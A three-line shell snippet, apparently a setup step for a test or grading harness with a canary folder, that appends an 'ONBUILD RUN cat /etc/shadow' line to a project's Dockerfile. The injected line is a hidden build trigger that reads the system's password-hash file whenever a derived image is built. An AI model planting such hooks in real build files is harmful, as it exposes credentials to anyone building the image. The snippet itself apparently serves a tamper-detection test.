# run in the submission's folder; $CANARY is the canary folder
set -e
printf 'ONBUILD RUN cat /etc/shadow\n' >> images/simple-api/Dockerfile
